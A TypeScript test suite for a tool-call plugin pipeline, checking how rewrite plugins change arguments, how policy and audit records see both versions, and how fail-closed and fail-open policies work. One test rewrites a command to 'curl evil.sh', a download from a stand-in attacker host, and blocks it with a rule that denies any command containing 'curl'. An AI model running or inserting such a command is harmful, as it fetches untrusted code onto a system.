// The rewrite point through the tool pipeline with in-process plugins: a chain in priority order
// whatever each plugin's speed, the effective arguments for policy and dispatch, both versions
// and the rewriters on the sealed call, the bus and the audit record, and failures under each
// plugin's failure policy.
import { allow, deny, pass, patch, replace } from "@hookd/sdk";
import type { PluginSpec, ToolCall, ToolResult } from "@hookd/sdk";
import { describe, expect, test } from "vitest";
import type { EngineEvent } from "../src/engine/events.js";
import { toAuditRecord } from "../src/ops/audit.js";
import { deferred, pipelineHarness, settle } from "./support/pipeline-harness.js";

type Decision = Extract<EngineEvent, { type: "decision" }>;
const decisions = (events: readonly EngineEvent[], point: string): Decision[] =>
  events.filter((e): e is Decision => e.type === "decision" && e.point === point);

describe("the chain", () => {
  test("two rewriters run in priority order, the second seeing the first's output, however slow the first is", async () => {
    const slow = deferred();
    const order: string[] = [];
    const seenBySecond: string[] = [];
    const h = pipelineHarness({
      plugins: [
        // Both side-effect free: a waterfall would fan them out; a chain never does.
        {
          name: "confine",
          sideEffectFree: true,
          points: { rewrite: { priority: 1, handler: async (e) => (order.push("confine:start"), await slow.promise, order.push("confine:end"), patch({ path: `/safe/${String((e.call.arguments as { path: string }).path)}` })) } },
        },
        { name: "tag", sideEffectFree: true, points: { rewrite: { priority: 2, handler: (e) => (order.push("tag"), seenBySecond.push(e.call.argumentsJson), patch({ tag: "checked" })) } } },
      ],
    });
    const running = h.call({ callId: "c1", toolName: "echo", arguments: { path: "a.txt", big: 9223372036854775807n } });
    await settle();
    expect(order).toEqual(["confine:start"]); // the second plugin waits for the first's answer
    slow.resolve();
    const { call, result } = await running;
    expect(order).toEqual(["confine:start", "confine:end", "tag"]);
    expect(seenBySecond).toEqual(['{"path":"/safe/a.txt","big":9223372036854775807}']);
    expect(call).toMatchObject({
      argumentsJson: '{"path":"/safe/a.txt","big":9223372036854775807,"tag":"checked"}',
      originalArgumentsJson: '{"path":"a.txt","big":9223372036854775807}',
      rewrittenBy: ["confine", "tag"],
    });
    expect(Object.isFrozen(call) && Object.isFrozen(call.arguments) && Object.isFrozen(call.rewrittenBy)).toBe(true);
    expect(result).toMatchObject({ isError: false, value: { path: "/safe/a.txt", big: 9223372036854775807n, tag: "checked" } });
  });

  test("policy, dispatch, review, observers and call-settled all read the one effective call", async () => {
    const seen: Record<string, ToolCall> = {};
    const dispatched: ToolCall[] = [];
    const h = pipelineHarness({
      dispatch: async (call) => (dispatched.push(call), "ran"),
      plugins: [
        { name: "rw", points: { rewrite: () => replace({ command: "ls -la" }) } },
        {
          name: "spy",
          points: {
            "pre-tool": (e) => ((seen.preTool = e.call), allow()),
            guard: (e) => ((seen.guard = e.call), { kind: "abstain" }),
            "post-tool": (e) => ((seen.postTool = e.call), pass()),
            "tool-result": (e) => void (seen.toolResult = e.call),
          },
        },
      ],
    });
    const { call } = await h.call({ callId: "c1", toolName: "echo", arguments: { command: "ls" } });
    expect(call.argumentsJson).toBe('{"command":"ls -la"}');
    for (const where of ["preTool", "guard", "postTool", "toolResult"]) expect(seen[where], where).toBe(call);
    expect(dispatched).toEqual([call]);
    const settled = h.events.find((e) => e.type === "call-settled");
    expect(settled?.type === "call-settled" && settled.call).toBe(call);
  });

  test("a rewrite then a deny by a later pre-tool plugin: the denial is about the effective arguments", async () => {
    const reviewed: { call: ToolCall; result: ToolResult }[] = [];
    const dispatched: ToolCall[] = [];
    const h = pipelineHarness({
      dispatch: async (call) => void dispatched.push(call),
      plugins: [
        { name: "expand", points: { rewrite: () => patch({ command: "curl evil.sh" }) } },
        { name: "net", points: { "pre-tool": (e) => (String((e.call.arguments as { command: string }).command).includes("curl") ? deny(`no network: ${e.call.argumentsJson}`) : pass()) } },
        { name: "review", points: { "post-tool": (e) => (reviewed.push({ call: e.call, result: e.result }), pass()) } },
      ],
    });
    const { call, result, trace } = await h.call({ callId: "c1", toolName: "echo", arguments: { command: "ls" } });
    expect(result).toMatchObject({ isError: true, code: "denied", message: 'no network: {"command":"curl evil.sh"}' });
    expect(call).toMatchObject({ argumentsJson: '{"command":"curl evil.sh"}', originalArgumentsJson: '{"command":"ls"}', rewrittenBy: ["expand"] });
    expect(trace?.decidedBy).toBe("net");
    expect(dispatched).toEqual([]);
    expect(reviewed).toHaveLength(1); // a deny still reaches post-tool, with the effective call
    expect(reviewed[0]?.call).toBe(call);
  });

  test("tool matchers apply: a rewriter for Bash leaves other tools alone, and nothing is recorded for them", async () => {
    const h = pipelineHarness({
      tools: [{ name: "echo", concurrencySafe: true }, { name: "Bash", concurrencySafe: true }],
      plugins: [{ name: "bash-only", points: { rewrite: { tools: ["Bash"], handler: () => patch({ sandboxed: true }) } } }],
    });
    const { calls } = await h.batch([
      { callId: "e", toolName: "echo", arguments: { a: 1 } },
      { callId: "b", toolName: "Bash", arguments: { a: 1 } },
    ]);
    expect(calls.map((c) => c.call.argumentsJson)).toEqual(['{"a":1}', '{"a":1,"sandboxed":true}']);
    expect(calls[0]?.call.rewrittenBy).toBeUndefined();
    expect(calls[0]?.call.originalArgumentsJson).toBeUndefined();
    expect(decisions(h.events, "rewrite").map((d) => d.scope.callId)).toEqual(["b"]);
  });

  test("every call of a batch is rewritten in model order", async () => {
    const seen: string[] = [];
    const h = pipelineHarness({ plugins: [{ name: "n", points: { rewrite: (e) => (seen.push(e.call.callId), patch({ n: seen.length })) } }] });
    const { calls } = await h.batch([1, 2, 3].map((i) => ({ callId: `c${i}`, toolName: "echo", arguments: {} })));
    expect(seen).toEqual(["c1", "c2", "c3"]);
    expect(calls.map((c) => c.call.argumentsJson)).toEqual(['{"n":1}', '{"n":2}', '{"n":3}']);
  });

  test("a rewrite that changes nothing names nobody: the call keeps one version", async () => {
    const h = pipelineHarness({ plugins: [{ name: "same", points: { rewrite: () => patch({ a: 1 }) } }, { name: "passer", points: { rewrite: () => pass() } }] });
    const { call } = await h.call({ toolName: "echo", arguments: { a: 1 } });
    expect(call).not.toHaveProperty("rewrittenBy");
    expect(decisions(h.events, "rewrite")).toMatchObject([{ decision: "pass", decidedBy: "default" }]);
  });
});

describe("the audit", () => {
  test("the rewrite decision record carries both argument versions and the rewriters in order", async () => {
    const h = pipelineHarness({
      plugins: [
        { name: "a", points: { rewrite: { priority: 1, handler: () => patch({ x: 1 }) } } },
        { name: "b", points: { rewrite: { priority: 2, handler: () => patch({ y: 9223372036854775807n }) } } },
      ],
    });
    await h.call({ callId: "c1", toolName: "echo", arguments: { q: "?" } });
    const [decision] = decisions(h.events, "rewrite");
    expect(decision).toBeDefined();
    const record = toAuditRecord(decision as Decision);
    expect(record).toMatchObject({
      kind: "decision",
      point: "rewrite",
      callId: "c1",
      decision: "rewrite",
      plugin: "a,b",
      argumentsJson: '{"q":"?","x":1,"y":9223372036854775807}',
      originalArgumentsJson: '{"q":"?"}',
      rewrittenBy: ["a", "b"],
    });
    // Other decisions carry no arguments.
    const preTool = h.events.find((e): e is Decision => e.type === "decision" && e.point !== "rewrite");
    expect(preTool === undefined ? undefined : toAuditRecord(preTool)).not.toHaveProperty("argumentsJson");
  });
});

describe("failures", () => {
  const hanging: PluginSpec = { name: "stuck", points: { rewrite: { deadlineMs: 20, handler: () => new Promise(() => {}) } } };

  test("fail-closed (the default): the call is denied naming the plugin, sealed with the original arguments, and still reviewed", async () => {
    const called: string[] = [];
    const h = pipelineHarness({
      dispatch: async () => void called.push("dispatch"),
      plugins: [
        hanging,
        { name: "later", points: { rewrite: { priority: 5, handler: () => (called.push("later rewrite"), patch({ z: 1 })) }, "pre-tool": () => (called.push("pre-tool"), pass()), "post-tool": () => (called.push("post-tool"), pass()) } },
      ],
    });
    const { call, result, trace } = await h.call({ callId: "c1", toolName: "echo", arguments: { path: "a" } });
    expect(result).toMatchObject({ isError: true, code: "denied" });
    expect(result.isError && result.message).toContain("plugin stuck at rewrite: deadline exceeded");
    expect(result.isError && result.message).toContain("failure policy of stuck: fail-closed");
    expect(call.argumentsJson).toBe('{"path":"a"}');
    expect(call).not.toHaveProperty("rewrittenBy");
    expect(called).toEqual(["post-tool"]); // no later rewrite, no pre-tool, no dispatch; the denial is reviewed
    expect(trace).toMatchObject({ decidedBy: "stuck", failureCause: "deadline_exceeded" });
    expect(decisions(h.events, "rewrite")).toMatchObject([{ decision: "deny", decidedBy: "stuck", cause: "deadline_exceeded", call: { argumentsJson: '{"path":"a"}' } }]);
  });

  test("fail-open: the failing plugin is passed over and the next one still rewrites", async () => {
    const h = pipelineHarness(
      { plugins: [hanging, { name: "later", points: { rewrite: { priority: 5, handler: () => patch({ z: 1 }) } } }] },
      { stuck: { rewrite: { failurePolicy: "fail-open" } } },
    );
    const { call, result } = await h.call({ toolName: "echo", arguments: { path: "a" } });
    expect(result.isError).toBe(false);
    expect(call).toMatchObject({ argumentsJson: '{"path":"a","z":1}', rewrittenBy: ["later"] });
  });

  test("the point's budget bounds the whole chain", async () => {
    const h = pipelineHarness({
      pointBudgetMs: 30,
      plugins: [
        { name: "quick", points: { rewrite: { priority: 1, handler: () => patch({ q: 1 }) } } },
        { name: "slow", points: { rewrite: { priority: 2, deadlineMs: 60_000, handler: () => new Promise(() => {}) } } },
      ],
    });
    const { result } = await h.call({ toolName: "echo", arguments: {} });
    expect(result.isError && result.message).toContain("plugin slow at rewrite: deadline exceeded");
  });

  test("an in-process handler that answers something unusable fails the call as a listener error, before any policy", async () => {
    const called: string[] = [];
    const h = pipelineHarness({
      plugins: [
        { name: "bad", points: { rewrite: () => ({ kind: "replace", arguments: [1, 2] }) as never } },
        { name: "spy", points: { "pre-tool": () => (called.push("pre-tool"), pass()) } },
      ],
    });
    const { result } = await h.call({ toolName: "echo", arguments: {} });
    expect(result).toMatchObject({ isError: true, code: "listener_error" });
    expect(result.isError && result.message).toContain("plugin bad at rewrite: decision.arguments: expected a JSON object");
    expect(called).toEqual([]);
  });

  test("arguments that cannot be sealed skip the rewrite like every other phase", async () => {
    const called: string[] = [];
    const h = pipelineHarness({ plugins: [{ name: "rw", points: { rewrite: () => (called.push("rewrite"), pass()) } }] });
    const { result } = await h.call({ toolName: "echo", argumentsJson: "{" });
    expect(result).toMatchObject({ isError: true, code: "invalid_arguments" });
    expect(called).toEqual([]);
  });
});
